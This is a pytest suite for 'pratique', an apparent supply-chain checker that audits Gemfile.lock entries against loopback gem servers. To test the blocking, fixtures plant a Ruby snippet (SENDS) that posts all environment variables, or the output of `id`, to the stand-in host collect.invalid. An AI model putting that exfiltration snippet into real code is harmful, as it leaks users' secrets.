"""`pratique check` of Gemfile.lock against gem servers on this machine."""

import hashlib
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from aiohttp import BasicAuth

from tests.cli.running import Machine
from tests.git import repository
from tests.loopback import GemFile, GemPackage, LoopbackRegistry, gem_file

CODE = {"lib/x.rb": "X = 1\n"}
NATIVE = gem_file("kite", "1.1.0", {**CODE, "lib/kite.so": b"\x7fELF"}, platform="x86_64-linux")
KITE = GemPackage(
    name="kite", files=(gem_file("kite", "1.0.0", CODE), gem_file("kite", "1.1.0", CODE), NATIVE)
)
TAIL = GemPackage(name="tail", files=(gem_file("tail", "2.5.0", CODE),))
SECRET = GemPackage(name="secret", files=(gem_file("secret", "0.1.0", CODE, published_at=None),))
LINUX = ("--platform", "linux-x86_64")
BOTH = ("ruby", "x86_64-linux")


@pytest.fixture
def machine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Machine]:
    for name in list(os.environ):
        if name.startswith("BUNDLE_") or name == "GEMRC":
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    with LoopbackRegistry(gems=[KITE, TAIL]) as registry:
        (Path(os.environ["HOME"]) / ".gemrc").write_text(f"---\n:sources:\n- {registry.gem_url}\n")
        yield Machine(tmp_path, registry, capsys)


@pytest.fixture
def private() -> Iterator[LoopbackRegistry]:
    with LoopbackRegistry(gems=[SECRET], token="s3cret") as registry:
        yield registry


def gems(url: str, *releases: str) -> str:
    """A section of gems from one server."""
    return "\n".join(
        ["GEM", f"  remote: {url}", "  specs:", *(f"    {release}" for release in releases), "", ""]
    )


def sums(*files: tuple[str, GemFile]) -> str:
    """The checksums of a lock, for releases such as `kite (1.0.0)`."""
    lines = [f"  {release} sha256={hashlib.sha256(file.data).hexdigest()}" for release, file in files]
    return "\n".join(["CHECKSUMS", *lines, "", ""])


def lock(machine: Machine, *sections: str, platforms: tuple[str, ...] = BOTH) -> Path:
    """Write a Gemfile.lock."""
    text = "".join(sections)
    named = "".join(f"  {platform}\n" for platform in platforms)
    asked = "".join(f"  {name}\n" for name in dict.fromkeys(re.findall(r"(?m)^ {4}(\S+) \(", text)))
    end = f"PLATFORMS\n{named}\nDEPENDENCIES\n{asked}"
    return machine.write("Gemfile.lock", text + end)


def fetched(registry: LoopbackRegistry) -> list[str]:
    return [seen.path.removeprefix("/rubygems/") for seen in registry.requests]


def test_what_checksums_tell_needs_no_listing_and_is_asked_once(machine: Machine) -> None:
    named = sums(("kite (1.1.0)", KITE.files[1]), ("tail (2.5.0)", TAIL.files[0]))
    lock(machine, gems(machine.registry.gem_url, "kite (1.1.0)", "tail (2.5.0)"), named)
    first = machine.run("check", *LINUX)
    assert 0 == first.code
    assert first.out.startswith("OK: 2 packages checked, no issues")
    assert ["gems/kite-1.1.0.gem", "gems/tail-2.5.0.gem"] == sorted(fetched(machine.registry))
    machine.registry.requests.clear()
    assert 0 == machine.run("check", *LINUX).code
    assert [] == machine.registry.requests


def test_without_checksums_the_index_tells_them(machine: Machine) -> None:
    lock(machine, gems(machine.registry.gem_url, "kite (1.1.0)"))
    assert 0 == machine.run("check", *LINUX).code
    assert ["info/kite", "gems/kite-1.1.0.gem"] == fetched(machine.registry)


def test_bytes_that_are_not_those_of_the_lock_are_blocked(machine: Machine) -> None:
    lock(machine, gems(machine.registry.gem_url, "kite (1.1.0)"), sums(("kite (1.1.0)", TAIL.files[0])))
    ran = machine.run("check", *LINUX)
    assert 1 == ran.code
    assert "! the lockfile says" in ran.out


def test_the_files_for_this_platform_are_judged_and_the_others_are_out_of_scope(machine: Machine) -> None:
    named = ("kite (1.1.0)", "kite (1.1.0-x86_64-linux)", "kite (1.1.0-java)")
    lock(machine, gems(machine.registry.gem_url, *named))
    ran = machine.run("check", "--format", "json", *LINUX)
    assert 0 == ran.code
    files = [file["filename"] for package in ran.json["packages"] for file in package["artifacts"]]
    assert ["kite-1.1.0-x86_64-linux.gem", "kite-1.1.0.gem"] == sorted(files)
    assert ["not installed on linux-x86_64: platform=java"] == [
        item["why"] for item in ran.json["coverage"]["out_of_scope"]
    ]


def test_a_lock_for_ruby_alone_leaves_the_file_to_bundler_whatever_its_checksums_say(
    machine: Machine,
) -> None:
    told = sums(("kite (1.1.0)", KITE.files[1]))
    lock(machine, gems(machine.registry.gem_url, "kite (1.1.0)"), told, platforms=("ruby",))
    assert 0 == machine.run("check", *LINUX).code
    assert ["info/kite", "gems/kite-1.1.0-x86_64-linux.gem"] == fetched(machine.registry)


def test_a_release_that_comes_in_later_is_new(machine: Machine) -> None:
    lock(machine, gems(machine.registry.gem_url, "tail (2.5.0)"))
    assert 0 == machine.run("check", *LINUX).code
    lock(machine, gems(machine.registry.gem_url, "kite (1.1.0-x86_64-linux)", "tail (2.5.0)"))
    ran = machine.run("check", "--notes", *LINUX)
    assert "native code in 1 files, and none in the baseline" in ran.out
    assert "gem:kite@1.1.0" in ran.out


def test_a_private_source_is_asked_alone_and_its_unknown_age_stops_nothing(
    machine: Machine, private: LoopbackRegistry
) -> None:
    home = os.environ["HOME"]
    key = f"BUNDLE_{private.gem_url.replace('.', '__').upper()}"
    machine.write(f"{home}/.bundle/config", f'---\n{key}: "me:s3cret"\n')
    setting = f'[[registries]]\nurl = "{private.gem_url}"\necosystem = "gem"\nprivate = true\n'
    machine.write(f"{home}/.config/pratique/pratique.toml", setting)
    lock(machine, gems(private.gem_url, "secret (0.1.0)"), gems(machine.registry.gem_url, "tail (2.5.0)"))
    ran = machine.run("check", "--as", "new", "-v", *LINUX)
    assert 0 == ran.code, ran.out
    assert "cooldown unknown: the private registry has no publish time" in ran.out
    assert ["info/secret", "gems/secret-0.1.0.gem"] == fetched(private)
    assert {"me:s3cret"} == {credential(seen.authorization) for seen in private.requests}
    assert ["info/tail", "gems/tail-2.5.0.gem"] == fetched(machine.registry)
    assert {None} == {seen.authorization for seen in machine.registry.requests}


def test_a_source_that_nobody_configured_is_not_asked(machine: Machine, private: LoopbackRegistry) -> None:
    lock(machine, gems(private.gem_url, "secret (0.1.0)"))
    ran = machine.run("check", *LINUX)
    assert 3 == ran.code
    assert "pkg:gem/secret@0.1.0: " in ran.out
    assert "no configuration contains the" in ran.out
    assert [] == private.requests == machine.registry.requests


def test_gems_from_git_are_named_and_not_judged(machine: Machine) -> None:
    git = (
        "GIT\n  remote: https://git.example/fork.git\n  revision: "
        + "a" * 40
        + "\n  specs:\n    fork (3.0)\n\n"
    )
    lock(machine, git, gems(machine.registry.gem_url, "tail (2.5.0)"))
    ran = machine.run("check", "--format", "json", *LINUX)
    assert 3 == ran.code
    (unjudged,) = ran.json["coverage"]["not_judged"]
    assert "pkg:gem/fork@3.0" == unjudged["purl"]
    assert "git repository" in unjudged["why"]
    assert ["pkg:gem/tail@2.5.0"] == [package["purl"] for package in ran.json["packages"]]


OWN = "PATH\n  remote: engines/own\n  specs:\n    own (1.0)\n\n"
SPEC = 'Gem::Specification.new do |s|\n  s.name = "own"\n  s.version = "1.0"\nend\n'
SENDS = 'require "net/http"\nNet::HTTP.post(URI("https://collect.invalid/x"), ENV.to_h.to_s)\n'


def test_a_folder_of_the_repository_is_judged_and_its_gemspec_too(machine: Machine) -> None:
    machine.write("engines/own/own.gemspec", SPEC)
    machine.write("engines/own/lib/own.rb", "VALUE = 1\n")
    lock(machine, OWN, gems(machine.registry.gem_url, "tail (2.5.0)"))
    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
    assert 0 == ran.code, ran.out
    assert ["pkg:gem/own@1.0", "pkg:gem/tail@2.5.0"] == [package["purl"] for package in ran.json["packages"]]
    assert [] == ran.json["coverage"]["out_of_scope"]
    for path, text in {"own.gemspec": SENDS + SPEC, "lib/own.rb": SENDS}.items():
        machine.write(f"engines/own/{path}", text)
        ran = machine.run("check", "--as", "new", "-v", *LINUX)
        assert 1 == ran.code, ran.out
        assert f"{path}:2" in ran.out


def test_in_the_full_check_a_folder_is_in_use_already(machine: Machine) -> None:
    machine.write("engines/own/own.gemspec", SPEC)
    machine.write("engines/own/lib/own.rb", SENDS.replace("ENV.to_h.to_s", "`id`"))
    lock(machine, OWN, gems(machine.registry.gem_url, "tail (2.5.0)"))
    assert 1 == machine.run("check", "--as", "new", *LINUX).code
    assert 0 == machine.run("check", *LINUX).code
    machine.write("engines/own/lib/own.rb", SENDS)
    assert 1 == machine.run("check", *LINUX).code, "what is proven from end to end blocks"


@pytest.mark.parametrize("remote", [".", "..", "../.."])
def test_the_project_s_own_gemspec_is_out_of_scope(machine: Machine, remote: str) -> None:
    machine.write(".git/HEAD", "")
    machine.write("own.gemspec", SENDS + SPEC)
    text = OWN.replace("engines/own", remote) + gems(machine.registry.gem_url, "tail (2.5.0)")
    machine.write("a/b/Gemfile.lock", f"{text}PLATFORMS\n  ruby\n\nDEPENDENCIES\n  own!\n  tail\n")
    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
    assert ["pkg:gem/own@1.0"] == [item["purl"] for item in ran.json["coverage"]["out_of_scope"]]


bundle = shutil.which("bundle")


@pytest.mark.skipif(bundle is None, reason="Bundler is not installed")
def test_what_bundler_locks_and_installs_is_what_is_judged(machine: Machine) -> None:
    assert bundle is not None
    machine.write("Gemfile", f'source "{machine.registry.gem_url}"\ngem "kite"\ngem "tail"\n')
    environment = {
        "PATH": os.environ["PATH"],
        "HOME": os.environ["HOME"],
        "BUNDLE_PATH": "installed",
        "BUNDLE_RETRY": "0",
        "BUNDLE_LOCKFILE_CHECKSUMS": "true",
    }
    done = subprocess.run(
        [bundle, "install"], env=environment, capture_output=True, text=True, check=False, timeout=120
    )
    assert 0 == done.returncode, done.stdout + done.stderr
    taken = sorted(path for path in fetched(machine.registry) if path.startswith("gems/"))
    machine.registry.requests.clear()
    ran = machine.run("check", "--format", "json")
    assert 0 == ran.code, ran.out
    judged = {f"gems/{file['filename']}" for package in ran.json["packages"] for file in package["artifacts"]}
    # Bundler takes the gem for any Ruby where the one for this platform does not suit the Ruby that runs.
    assert {*taken, "gems/kite-1.1.0.gem"} == judged
    if "CHECKSUMS" in (machine.folder / "Gemfile.lock").read_text():  # Bundler 2.6 and later write them
        assert {*judged, "info/bundler"} == set(fetched(machine.registry))


def credential(header: str | None) -> str:
    """What a header for basic authorization holds."""
    told = BasicAuth.decode(header or "")
    return f"{told.login}:{told.password}"


def bundled(version: str) -> str:
    return f"BUNDLED WITH\n   {version}\n"


def write_lock(machine: Machine, version: str, *sections: str) -> None:
    tail = gems(machine.registry.gem_url, "tail (2.5.0)")
    machine.write("Gemfile.lock", f"{lock(machine, tail, *sections).read_text()}\n{bundled(version)}")


BUNDLER = GemPackage(
    name="bundler",
    files=(
        gem_file("bundler", "2.6.7", {"lib/bundler.rb": "X = 1\n"}),
        gem_file("bundler", "2.6.9", {"lib/bundler.rb": SENDS}),
    ),
)


def test_the_bundler_that_a_lock_names_is_judged(machine: Machine) -> None:
    machine.registry.put_gem(BUNDLER)
    write_lock(machine, "2.6.7")
    ran = machine.run("check", "--format", "json", "--as", "new", *LINUX)
    assert 0 == ran.code, ran.out
    assert ["pkg:gem/bundler@2.6.7", "pkg:gem/tail@2.5.0"] == [one["purl"] for one in ran.json["packages"]]
    write_lock(machine, "2.6.9")
    ran = machine.run("check", "--as", "new", "-v", *LINUX)
    assert 1 == ran.code, ran.out
    assert "Gemfile.lock:14" in ran.out


def test_a_change_of_the_bundler_is_a_changed_package(machine: Machine) -> None:
    machine.registry.put_gem(BUNDLER)
    git = repository(machine.folder)
    write_lock(machine, "2.6.7")
    git.commit()
    ran = machine.run("check", "--since", "HEAD", *LINUX)
    assert 0 == ran.code, ran.out
    assert "2 unchanged)" in ran.out
    write_lock(machine, "2.6.9")
    ran = machine.run("check", "--since", "HEAD", *LINUX)
    assert 1 == ran.code, ran.out
    assert "gem:bundler@2.6.9" in ran.out
    assert "upgraded" in ran.out


def test_the_bundler_of_a_lock_comes_from_the_usual_registry_alone(machine: Machine) -> None:
    machine.registry.put_gem(BUNDLER)
    write_lock(machine, "2.6.7", sums(("bundler (2.6.7)", BUNDLER.files[0]), ("tail (2.5.0)", TAIL.files[0])))
    path = machine.folder / "Gemfile.lock"
    path.write_text(path.read_text().replace(machine.registry.gem_url, "https://gems.example/"))
    ran = machine.run("check", "--format", "json", *LINUX)
    assert ["pkg:gem/bundler@2.6.7"] == [
        one["purl"] for one in ran.json["packages"] if "bundler" in one["purl"]
    ]


@pytest.mark.parametrize("version", ["99.0.0", "2.7.0.dev"])
def test_a_bundler_that_nobody_can_fetch_is_out_of_scope(machine: Machine, version: str) -> None:
    write_lock(machine, version)
    ran = machine.run("check", "--as", "new", "--format", "json", *LINUX)
    assert 0 == ran.code, ran.out
    assert ["pkg:gem/tail@2.5.0"] == [one["purl"] for one in ran.json["packages"]]
    machine.registry.put_gem(BUNDLER)
    ran = machine.run("check", "--as", "new", "--format", "json", *LINUX)
    assert 0 == ran.code, ran.out
    listed = [one["purl"] for one in ran.json["coverage"]["out_of_scope"]]
    assert ([] if version.endswith("dev") else [f"pkg:gem/bundler@{version}"]) == listed
